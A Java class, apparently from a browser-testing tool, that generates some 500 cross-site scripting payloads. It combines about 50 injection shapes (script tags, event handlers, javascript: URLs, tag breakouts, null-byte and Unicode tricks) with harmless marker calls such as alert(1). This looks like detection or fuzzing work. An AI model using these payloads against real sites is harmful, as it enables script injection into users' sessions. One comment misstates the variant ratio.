package io.github.sightline.browser;

import java.util.ArrayList;
import java.util.List;

/** Texts that would run in a page that does not escape them. */
public final class Payloads {
  private static final List<String> CALLS =
      List.of(
          "window.hit=1",
          "alert(1)",
          "fetch('/leave',{method:'POST'})",
          "top.hit=1",
          "eval('hit=1')");

  /** Where {@code %s} stands, something would be called. */
  private static final List<String> SHAPES =
      List.of(
          "<script>%s</script>",
          "<SCRIPT>%s</SCRIPT>",
          "<img src=x onerror=%s>",
          "<img src=x onerror=\"%s\">",
          "\"><img src=x onerror=%s>",
          "'><img src=x onerror=%s>",
          "<svg onload=%s>",
          "<svg/onload=%s>",
          "<svg><script>%s</script></svg>",
          "<body onload=%s>",
          "<iframe src=\"javascript:%s\"></iframe>",
          "<iframe srcdoc=\"<script>%s</script>\"></iframe>",
          "<a href=\"javascript:%s\">x</a>",
          "javascript:%s",
          "\" onmouseover=\"%s",
          "' onfocus='%s' autofocus='",
          "\" autofocus onfocus=\"%s",
          "</title><script>%s</script>",
          "</textarea><script>%s</script>",
          "</style><script>%s</script>",
          "</script><script>%s</script>",
          "--><script>%s</script>",
          "]]><script>%s</script>",
          "<details open ontoggle=%s>",
          "<video><source onerror=%s></video>",
          "<object data=\"javascript:%s\"></object>",
          "<embed src=\"javascript:%s\">",
          "<form action=\"javascript:%s\"><button>x</button></form>",
          "<button formaction=\"javascript:%s\">x</button>",
          "<input autofocus onfocus=%s>",
          "<math href=\"javascript:%s\">x</math>",
          "<base href=\"javascript:%s//\">",
          "<link rel=stylesheet href=\"javascript:%s\">",
          "<meta http-equiv=refresh content=\"0;url=javascript:%s\">",
          "<template><script>%s</script></template>",
          "<noscript><p title=\"</noscript><img src=x onerror=%s>\"></noscript>",
          "<div hx-get=\"/audit\" hx-trigger=\"load\" hx-on::load=\"%s\">",
          "<div hx-on:click=\"%s\" data-hx-on:click=\"%s\">",
          "<div sse-connect=\"/live\" onclick=%s>",
          "<p style=\"background:url(javascript:%s)\">",
          "<style>@import 'javascript:%s'</style>",
          "<marquee onstart=%s>",
          "<table background=\"javascript:%s\">",
          "<select autofocus onfocus=%s>",
          "<isindex onfocus=%s>",
          "\u0000<script>%s</script>",
          "<scr\u0000ipt>%s</script>",
          "\u202E<script>%s</script>",
          "＜script＞%s＜/script＞<script>%s</script>",
          "${%s}{{%s}}#{%s}<%%= %s %%>@if(%s)");

  private Payloads() {}

  /** 500 of them, each another one; two out of five in other letters. */
  public static List<String> all() {
    List<String> all = new ArrayList<>();
    for (String shape : SHAPES) {
      for (String call : CALLS) {
        String text = shape.replace("%s", call).replace("%%", "%");
        all.add(text);
        all.add(text.replace("<", " <\t").replace("=", " = ") + "<b x=" + all.size() + ">");
      }
    }
    return all;
  }
}
